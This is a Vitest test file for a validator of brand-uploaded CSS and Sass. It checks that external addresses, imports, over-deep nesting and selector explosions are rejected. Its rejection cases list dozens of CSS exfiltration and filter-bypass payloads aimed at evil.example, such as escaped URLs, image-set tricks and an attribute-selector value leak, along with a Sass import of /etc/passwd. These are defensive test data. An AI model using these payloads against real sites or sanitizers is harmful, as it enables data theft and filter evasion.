import { describe, expect, test } from 'vitest';
import { readOwnStyles } from './own-styles.ts';

const path = '/brands/cierzo/assets/estilos';
const css = (text: string) => readOwnStyles(`${path}.css`, text);
const scss = (text: string) => readOwnStyles(`${path}.scss`, text);
const codes = (text: string, read = css) => read(text).mistakes.map(({ texts }) => texts.code);

test('a style sheet names the files that it loads', () => {
  const { styles, mistakes } = css('a { background: url(campus.jpg) } b { mask: url("icons/x.svg") }');
  expect(mistakes).toEqual([]);
  expect(styles?.dependencies.map(({ path: file }) => file)).toEqual([
    '/brands/cierzo/assets/campus.jpg',
    '/brands/cierzo/assets/icons/x.svg',
  ]);
  for (const { placeholder } of styles?.dependencies ?? [])
    expect(styles?.css.split(placeholder)).toHaveLength(2);
});

test('a reference to an element of the page is not a file', () => {
  expect(css('a{mask:url("#m")}').styles).toEqual({ css: 'a{mask:url("#m")}', dependencies: [] });
});

test('Sass is compiled, with the modules of Sass itself', () => {
  const text = '@use "sass:color";\n$c: #0b5563;\nnav { a { color: color.scale($c, $lightness: 100%); } }';
  expect(scss(text).styles?.css).toBe('nav a{color:#fff}');
});

describe('a style sheet with an external address is rejected', () => {
  test.each([
    'a{background:url(https://evil.example/x.png)}',
    'a{background:url(//evil.example/x.png)}',
    'a{background:url(/x.png)}',
    'a{background:url(data:image/png;base64,AAAA)}',
    'a{background:u\\72l(//evil.example/x)}',
    'a{background:URL(https://evil.example/x)}',
    'a{background:image-set("https://evil.example/x.png" 1x)}',
    'a{background:-webkit-image-set(url(https://evil.example/x.png) 1x)}',
    'a{background:cross-fade(url(//evil.example/x), url(b.png))}',
    'a{cursor:url(https://evil.example/c.cur),auto}',
    'a{filter:url(https://evil.example/f.svg#f)}',
    'a{--x:url(https://evil.example/x)}',
    'a{--x:"https://evil.example/x.png";background:image-set(var(--x) 1x)}',
    'a{--x:image-set("https://evil.example/x.png" 1x)}',
    'a{--x:"ht\\74ps:\\2f\\2f evil.example"}',
    'a{content:image-set("https://evil.example/x.png" 1x)}',
    'a{background:src("https://evil.example/x")}',
    'a{background:image-set("//evil.example/x" 1x), var(--y)}',
    '@property --x{syntax:"<string>";inherits:false;initial-value:"https://evil.example/x"}',
    '@font-face{font-family:x;src:url(https://evil.example/x.woff2)}',
    '@media print{a{background:url(https://evil.example/x)}}',
    '@supports (x:y){a{background:url(https://evil.example/x)}}',
    'input[value^="a"]{background:url(https://evil.example/?a)}',
    // Characters that the URL parser takes for a slash or removes.
    String.raw`a{--x:"\\\\evil.example/x";background:image-set(var(--x) 1x)}`,
    String.raw`a{--x:"/\\evil.example/x";background:image-set(var(--x) 1x)}`,
    String.raw`a{--x:"\\/evil.example/x"}`,
    String.raw`a{--x:"/\9/evil.example/x";background:image-set(var(--x) 1x)}`,
    String.raw`a{--x:"/\a /evil.example/x"}`,
    String.raw`a{--x:"\9//evil.example/x"}`,
    String.raw`a{--x:"ht\a tps://evil.example/x";background:image-set(var(--x) 1x)}`,
    String.raw`a{--x:"ht\d tps:evil.example/x"}`,
    String.raw`a{--x:"\1 https://evil.example/x";background:image-set(var(--x) 1x)}`,
    String.raw`a{--x:"\1f //evil.example/x"}`,
    String.raw`a{--x:"https:evil.example/x"}`,
    String.raw`a{--x:"https:\\evil.example/x"}`,
    'a{--x:"//evil.example/x"}',
    "a{--x:'//evil.example/x'}",
    'a{--x:"/\t/evil.example/x"}',
    'a{--x:"https:\\\n//evil.example/x"}',
    'a{--x:"\u0001//evil.example/x"}',
    'a{--x:{y:"//evil.example/x"}}',
    'a{--x:[a "//evil.example/x"]}',
    'a{--x:"data:image/svg+xml,x"}',
    'a{--x:"blob:https://evil.example/x"}',
    String.raw`@property --x{syntax:"*";inherits:false;initial-value:"\\\\evil.example/x"}`,
    String.raw`@property --x{syntax:"*";inherits:false;initial-value:"/\9/evil.example/x"}`,
    String.raw`a{background:src("/\\evil.example/x")}`,
    String.raw`a{background:image-set("\1 //evil.example/x" 1x, var(--y))}`,
    String.raw`a{background:url("/\9/evil.example/x")}`,
    String.raw`a{background:url("\1 //evil.example/x")}`,
    String.raw`a{background:url(\1 //evil.example/x)}`,
    String.raw`a{content:image-set("\\\\evil.example/x" 1x, var(--y))}`,
    String.raw`a{c\6fntent:x;--content:"//evil.example/x"}`,
    '@tomorrow url(https://evil.example/x);',
    '@tomorrow { a { background: "//evil.example/x" } }',
  ])('%s', (text) => {
    expect(codes(text)).toContain('style-leaves-brand');
  });

  test('also in Sass', () => {
    expect(codes('$host: "https://evil.example";\na { background: url("#{$host}/x.png") }', scss)).toEqual([
      'style-leaves-brand',
    ]);
  });
});

test.each([
  'a[href^="https://"]::after{content:" (https://…)"}',
  "a[href$='//x']{color:red}",
  '@namespace svg url(http://www.w3.org/2000/svg);svg|a{color:red}',
  'a{--x:"una nota";--y:"ruta/x.png";quotes:"«" "»"}',
])('an address that is only compared or shown loads nothing: %s', (text) => {
  expect(codes(text)).toEqual([]);
});

test('an address is marked from its beginning to its end, whatever its notation', () => {
  const mistakes = css('a{color:red}\nb{--x: "\\2f/evil.example"}').mistakes;
  expect(mistakes.map(({ inside }) => inside)).toMatchObject([{ line: 2, column: 9, endColumn: 25 }]);
});

describe('a style sheet with an import is rejected', () => {
  test.each(['@import "x.css";', '@import url(https://evil.example/x.css);', '@layer a{@import "x.css";}'])(
    '%s',
    (text) => {
      expect(codes(text)).toEqual(['style-import']);
    },
  );

  test.each([
    '@use "other";',
    '@import "other";',
    '@forward "../../other/brand";',
    '@use "file:///etc/passwd";',
  ])('%s in Sass', (text) => {
    expect(codes(text, scss)).toEqual(['style-import']);
  });
});

describe('a mistake is reported at its line', () => {
  test.each([
    ['in CSS', css, 'a { color: red; }\nb { color }\n', 2],
    ['at a brace too many', css, 'a { color: red; }\nb { color: red; }}\nc { }\n', 2],
    [
      'at a brace that nobody closes',
      css,
      'a { content: "}"; } /* } */\nb { color: red;\nc { color: red; }\n',
      2,
    ],
    ['in Sass that cannot be read', scss, 'a {\n  color: red;\n  color $x;\n}\n', 3],
    [
      'in CSS that Sass has made',
      scss,
      '$a: 1;\n// comment\nnav {\n  a {\n    background: url(https://evil.example/x);\n  }\n}\n',
      5,
    ],
  ])('%s', (_name, read, text, line) => {
    expect(read(text).mistakes.map(({ inside }) => inside.line)).toEqual([line]);
  });
});

test('an unknown rule is only a warning', () => {
  const { styles, mistakes } = css('@tomorrow x;\na{color:red}');
  expect(mistakes.map(({ texts }) => texts.severity)).toEqual(['warning']);
  expect(styles?.css).toContain('a{color:red}');
});

describe('brackets nested too deep for the parser are rejected before parsing', () => {
  const deep = (open: string, close: string, inside = '') => open.repeat(101) + inside + close.repeat(101);
  test.each([
    ['parentheses', css, `a{width:calc${deep('(', ')', '1px')}}`, 1],
    ['functions', css, `a{}\nb{width:${deep('calc(', ')', '1px')}}`, 2],
    ['rules', css, deep('a{', '}'), 1],
    ['square brackets', css, `a{grid:${deep('[', ']', 'x')}}`, 1],
    ['what nobody closes', css, '('.repeat(20_000), 1],
    ['rules in Sass', scss, deep('a{', '}', 'b:c'), 1],
    [
      'what Sass makes of little',
      scss,
      '@function f($n) { @if $n == 0 { @return "1px" } @return "calc(" + f($n - 1) + ")" }\na {\n  width: #{f(150)};\n}',
      3,
    ],
    [
      'in what only ends like an address',
      css,
      `@supports (--x:curl(${'('.repeat(120)}x${')'.repeat(121)}){a{b:c}}`,
      1,
    ],
    ['behind an escaped bracket', css, `@supports \\{url(${'('.repeat(120)}x${')'.repeat(121)}{a{b:c}}`, 1],
    [
      'behind an escape in numbers',
      css,
      `@supports \\7b url(${'('.repeat(120)}x${')'.repeat(121)}{a{b:c}}`,
      1,
    ],
  ])('%s', (_name, read, text, line) => {
    expect(read(text).mistakes).toMatchObject([{ texts: { code: 'invalid-style' }, inside: { line } }]);
  });

  test('but not in texts, comments and addresses', () => {
    const many = '('.repeat(200);
    expect(codes(`a{content:"${many}"}/*${many}*/b{background:url(${'['.repeat(200)})}`)).toEqual([]);
    expect(codes(`a{width:${'calc('.repeat(100)}1px${')'.repeat(100)}}`)).toEqual(['invalid-style']);
    expect(codes(`a{width:${'calc('.repeat(99)}1px${')'.repeat(99)}}`)).toEqual([]);
  });
});

test('short Sass that becomes very long CSS is rejected', () => {
  const text = '@for $i from 1 through 5000 { .a#{$i} { color: red; width: #{$i}px } }';
  expect(codes(text, scss)).toEqual(['file-too-large']);
  expect(codes(text.replace('5000', '500'), scss)).toEqual([]);
});

describe('nested rules with too many expanded selectors are rejected before they freeze a browser', () => {
  const nested = (selectors: string, times: number) =>
    `nav{${`${selectors}{`.repeat(times)}color:red${'}'.repeat(times)}}`;
  test.each([
    ['lists of the same', `a{color:red}\n${nested('&,&', 30)}`],
    ['lists of children', `a{color:red}\n${nested('& > a, & > b', 30)}`],
    ['one selector that names those around it again and again', `a{color:red}\n${nested('& &', 30)}`],
    ['names inside functions', `a{color:red}\n${nested(':is(&, &)', 30)}`],
    ['with conditions between them', `a{color:red}\n${nested('@media all{&,&', 15).replaceAll('}', '}}')}`],
    ['lists without the sign', `a{color:red}\n${nested('a, b, c', 15)}`],
  ])('%s', (_name, text) => {
    expect(css(text).mistakes).toMatchObject([{ texts: { code: 'invalid-style' }, inside: { line: 2 } }]);
  });

  test('but not many simple ones, nor many selectors without nesting', () => {
    const links = '&:hover, &:focus-visible { a, b { color: red } }';
    const sheet = Array.from({ length: 1000 }, (_, index) => `.a${index} { ${links} }`).join('\n');
    expect(codes(sheet)).toEqual([]);
    const flat = Array.from({ length: 5000 }, (_, index) => `.a${index}`).join();
    expect(codes(`${flat}{color:red}`)).toEqual([]);
    expect(codes(nested('&:hover', 50))).toEqual([]);
  });
});

describe('one rule for addresses', () => {
  test.each([
    ':root{--x:"/api/v1/usuario/yo"}body{background:image-set(var(--x) 1x)}',
    'a{--x:" /api"}',
    'a{--x:"\\\\evil.example"}',
  ])('holds for texts as for url(): %s', (text) => {
    expect(codes(text)).toContain('style-leaves-brand');
  });

  test('lets separators be', () => {
    expect(codes('a{--x:"/"}b::before{content:"/ "}')).toEqual([]);
  });
});

test('a note behind two slashes is explained', () => {
  expect(css('// nota\nh2{color:red}').mistakes[0]?.texts.fix?.en).toContain('`/*`');
});

test('a font of the portal needs no file in the sheet', () => {
  const sheet = "h2{font-family:'Sea Serif',serif}";
  expect(css(sheet).mistakes).toHaveLength(1);
  expect(readOwnStyles(`${path}.css`, sheet, ['Sea Serif']).mistakes).toEqual([]);
});
